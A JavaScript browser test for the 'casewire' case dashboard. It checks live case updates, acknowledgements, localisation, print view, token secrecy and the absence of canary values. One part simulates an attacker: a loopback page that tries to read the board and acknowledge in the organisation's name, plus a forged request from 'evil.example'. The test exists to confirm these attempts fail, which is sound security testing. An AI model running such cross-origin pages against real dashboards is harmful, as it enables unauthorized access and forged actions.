// The dashboard in Debian's chromium (headless), against a real daemon, real
// casewire clients and two real dashboards (organisations A and B), all set
// up by tests/e2e/dashboard_test.cc, which passes them in the environment:
//   DASH_A, DASH_B   the URLs the two dashboards printed (with their tokens)
//   CASEWIRE         the client binary; CONTACT_HOME the contact's home
//   ORG_B_HOME       organisation B's home (for an acknowledgement made with the CLI)
//   ALERT_FILE       an alert with canary values in every restricted field
//   CANARIES         those values, one per line
//   ARRIVAL_MS       the bound from receipt to the page
//   SCREENSHOT_DIR   where to write the list and case-view screenshots (optional)
// Exit status 0 when every check holds; each failure is printed.
import { execFileSync } from "node:child_process";
import http from "node:http";
import puppeteer from "puppeteer-core";

const env = process.env;
const arrival = Number(env.ARRIVAL_MS || 2000);
const canaries = env.CANARIES.split("\n").filter(Boolean);
const failures = [];
const seenBodies = [];

function check(ok, what) {
  console.log(`${ok ? "ok  " : "FAIL"} ${what}`);
  if (!ok) failures.push(what);
}

function contact(...args) {
  return execFileSync(env.CASEWIRE, ["--home", env.CONTACT_HOME, ...args], { encoding: "utf8" });
}

// Every response a page receives from its dashboard, kept for the canary scan.
function record(page) {
  page.on("response", async (res) => {
    try {
      seenBodies.push(`${res.url()}\n${await res.text()}`);
    } catch {
      // event streams and redirects have no body to read here
    }
  });
  page.on("request", (req) => seenBodies.push(`${req.url()}\n${req.postData() || ""}`));
}

async function open(browser, url, languages) {
  const context = await browser.createBrowserContext();
  const page = await context.newPage();
  if (languages)
    await page.evaluateOnNewDocument((l) => {
      Object.defineProperty(navigator, "languages", { get: () => l });
    }, languages);
  await page.setViewport({ width: 1200, height: 800 });
  record(page);
  const res = await page.goto(url, { waitUntil: "domcontentloaded" });
  return { page, context, res };
}

async function within(ms, page, fn, ...args) {
  const t0 = Date.now();
  try {
    await page.waitForFunction(fn, { timeout: ms, polling: 50 }, ...args);
    return Date.now() - t0;
  } catch {
    return -1;
  }
}

// A raw request with the page's token but another site's Origin.
function foreignPost(url, token) {
  return new Promise((resolve) => {
    const u = new URL(url);
    const req = http.request(
      { host: u.hostname, port: u.port, path: "/api/ack", method: "POST",
        headers: { Authorization: `Bearer ${token}`, Origin: "http://evil.example",
                   "Content-Type": "application/json" } },
      (res) => { res.resume(); resolve(res.statusCode); });
    req.on("error", () => resolve(0));
    req.end(JSON.stringify({ case: "a".repeat(32) }));
  });
}

// The attacker of the dashboard issue: another user's program listening on
// a loopback port of the caseworker's computer, and a link to it the
// caseworker clicks in the browser the dashboard is open in. It records
// every request it receives (a cookie for 127.0.0.1 would arrive here) and
// serves a page that tries to read the board and acknowledge in the
// organisation's name.
function startAttacker(dashboardUrl) {
  const seen = [];
  const dash = new URL(dashboardUrl).origin;
  const page = `<!doctype html><script>
    const dash = ${JSON.stringify(dash)};
    const report = (what, v) => fetch("/report?" + what + "=" + encodeURIComponent(v));
    fetch(dash + "/api/board", { credentials: "include" })
      .then((r) => r.text()).then((t) => report("board", t)).catch((e) => report("board_error", String(e)));
    fetch(dash + "/api/ack", { method: "POST", mode: "no-cors", credentials: "include",
      headers: { "Content-Type": "text/plain" }, body: JSON.stringify({ case: "a".repeat(32) }) })
      .then(() => report("ack", "sent")).catch((e) => report("ack_error", String(e)));
  </script>`;
  const server = http.createServer((req, res) => {
    seen.push({ url: req.url, headers: req.headers });
    res.writeHead(200, { "Content-Type": "text/html" });
    res.end(req.url === "/" ? page : "ok");
  });
  return new Promise((resolve) => server.listen(0, "127.0.0.1", () => resolve({ server, seen })));
}

const browser = await puppeteer.launch({
  executablePath: "/usr/bin/chromium",
  headless: true,
  args: ["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--lang=en-GB"],
});
try {
  const A = await open(browser, env.DASH_A);
  const B = await open(browser, env.DASH_B, ["ko-KR", "ko"]);
  const tokenA = new URL(env.DASH_A).hash.replace("#token=", "");
  check(A.res.status() === 200 && !A.page.url().includes("token"),
        "the token URL opens the page and leaves the address bar");
  check((await within(10000, A.page, () => document.querySelector("#feed.live"))) >= 0,
        "A's page is live");
  check((await B.page.$eval("#title", (e) => e.textContent)) === "사건",
        "B's page follows the browser's language (Korean)");

  // A contact reports an arrest; both pages show it.
  const receipt = JSON.parse(contact("send", "--alert", env.ALERT_FILE, "--json").split("\n")[0]);
  const ms = await within(arrival, A.page, () => document.querySelectorAll("#cases-body tr").length === 1);
  check(ms >= 0, `the case appears on A's page within ${arrival} ms of the receipt (took ${ms} ms)`);
  const row = await A.page.$eval("#cases-body tr", (tr) => ({
    text: tr.textContent,
    soon: !!tr.querySelector(".countdown.soon"),
    countdown: tr.querySelector(".countdown").textContent,
  }));
  check(row.soon && /in 1[89] h/.test(row.countdown),
        `the countdown shows under 24 hours, in red (${row.countdown})`);
  check(row.text.includes("Tumen border detention centre"), "the facility is shown by name");
  check(row.text.includes("acting: 0 organisations"), "nobody is acting yet");

  // The loopback-port attacker, visited in A's browser after A opened the
  // dashboard: it never receives the token, cannot read the board and
  // cannot act. (On the cookie dashboard it received the token: the cookie
  // for 127.0.0.1 went to its port too.)
  const attacker = await startAttacker(env.DASH_A);
  const evil = await A.context.newPage();
  await evil.goto(`http://127.0.0.1:${attacker.server.address().port}/`, { waitUntil: "networkidle0" });
  await new Promise((r) => setTimeout(r, 500));
  const leaked = JSON.stringify(attacker.seen);
  check(attacker.seen.length > 0 && !leaked.includes(tokenA),
        "a program on another loopback port never receives the dashboard's token");
  check(!attacker.seen.some((r) => r.url.startsWith("/report?board=") && r.url.includes("cases")),
        "nor the board");
  check((await A.page.cookies()).length === 0, "the dashboard sets no cookie at all");
  check(row.text.includes("acting: 0 organisations") &&
        !(await A.page.$eval("#cases-body button.ack", (b) => b.disabled)),
        "the attacker's page could not acknowledge in A's name");
  await evil.close();
  attacker.server.close();
  check((await within(arrival, B.page, () => document.querySelectorAll("#cases-body tr").length === 1)) >= 0,
        "the case appears on B's page too");
  if (env.SCREENSHOT_DIR) await B.page.screenshot({ path: `${env.SCREENSHOT_DIR}/dashboard-list-ko.png` });
  if (env.SCREENSHOT_DIR) await A.page.screenshot({ path: `${env.SCREENSHOT_DIR}/dashboard-list.png` });

  // A acknowledges (one click and a confirmation); B's count moves.
  await A.page.click("#cases-body button.ack");
  await A.page.waitForSelector("#confirm[open]");
  await A.page.click("#confirm-yes");
  const acked = await within(arrival, B.page,
                             () => document.querySelector("#cases-body tr .acting").textContent.includes("1"));
  check(acked >= 0, `B's page shows one organisation acting within ${arrival} ms (took ${acked} ms)`);
  check((await within(arrival, A.page, () => document.querySelector("#cases-body button.ack").disabled)) >= 0,
        "A's page shows that A is acting");

  // B's colleague acknowledges with the command line: B's page shows B
  // acting, from the daemon's word (not only from its own clicks).
  execFileSync(env.CASEWIRE, ["--home", env.ORG_B_HOME, "ack", "1"], { encoding: "utf8" });
  check((await within(arrival + 2000, B.page,
                      () => document.querySelector("#cases-body button.ack") &&
                            document.querySelector("#cases-body button.ack").disabled)) >= 0,
        "an acknowledgement made with casewire ack shows on B's page as B acting");

  // The case view: timeline with verified signatures; the print view.
  await A.page.click("#cases-body tr");
  await A.page.waitForSelector("#case-view:not([hidden])");
  const timeline = await A.page.$eval("#timeline", (e) => e.textContent);
  check(timeline.includes("new case") && timeline.includes("signature verified"),
        "the case view's timeline says each event's signature verified");
  check(/^\d{4}-\d{2}-\d{2} \d{2}:00 \(UTC[+-]?[0-9:]*\)/.test(
          await A.page.$eval("#timeline li strong", (e) => e.textContent)),
        "times are ISO dates to the hour, with the zone (never 04/12/2026, never seconds)");
  if (env.SCREENSHOT_DIR) await A.page.screenshot({ path: `${env.SCREENSHOT_DIR}/dashboard-case.png` });
  await A.page.emulateMediaType("print");
  const printed = await A.page.$eval("#list-view", (e) => getComputedStyle(e).display);
  check(printed === "none", "the print view shows the case alone");
  const header = await A.page.$eval("#print-header", (e) => getComputedStyle(e).display !== "none" && e.textContent);
  check(header && /organisation key [0-9a-f]{16}/.test(header) && /daemon key [0-9a-f]{16}/.test(header),
        `the print view says who printed it, when, and the daemon's key (${header})`);
  await A.page.emulateMediaType("screen");
  await A.page.keyboard.press("Escape");

  // The contact retracts: the case is marked on both pages.
  contact("send", "--update", receipt.alert_id, "--kind", "retraction");
  check((await within(arrival, B.page, () => document.querySelector("#cases-body tr.retracted"))) >= 0,
        "a retraction marks the case on B's page");
  check((await B.page.$eval("#cases-body tr .state", (e) => e.textContent)) === "철회됨",
        "in Korean");

  // The language switch.
  await B.page.select("#lang", "en");
  check((await B.page.$eval("#title", (e) => e.textContent)) === "Cases", "the language switch works");

  // A phone-sized window: cases become cards, nothing overflows.
  await A.page.setViewport({ width: 390, height: 800 });
  const overflow = await A.page.evaluate(() => document.documentElement.scrollWidth > window.innerWidth + 1);
  check(!overflow, "readable in a phone-sized window (no sideways scrolling)");

  // Without the token: the page, and no case on it. With another site's
  // Origin: refused.
  const stranger = await browser.createBrowserContext();
  const sp = await stranger.newPage();
  await sp.goto(new URL("/", env.DASH_A).href, { waitUntil: "domcontentloaded" });
  check((await within(5000, sp, () => document.querySelector("#feed").textContent.includes("access token"))) >= 0 &&
        (await sp.$$eval("#cases-body tr", (r) => r.length)) === 0,
        "the page without the token shows no case and says what to open");
  check((await foreignPost(env.DASH_A, tokenA)) === 403, "a request with a foreign Origin is refused");
  // Every request the pages made: the token in none of their URLs as sent
  // (the part before '#': a browser never sends the fragment), which is what
  // a proxy in front of a remote dashboard would log.
  check(!seenBodies.some((b) => b.split("\n")[0].split("#")[0].includes(tokenA)),
        "no request URL carries the token");

  // Nothing restricted, anywhere.
  const everything = seenBodies.join("\n") + (await A.page.content()) + (await B.page.content());
  for (const c of canaries) check(!everything.includes(c), `no ${c.split("-").slice(0, 2).join("-")} value in the pages or their traffic`);
} catch (e) {
  failures.push(String(e && e.stack ? e.stack : e));
  console.log(`FAIL ${e}`);
} finally {
  await browser.close();
}
if (failures.length) {
  console.log(`${failures.length} check(s) failed`);
  process.exit(1);
}
console.log("all browser checks passed");
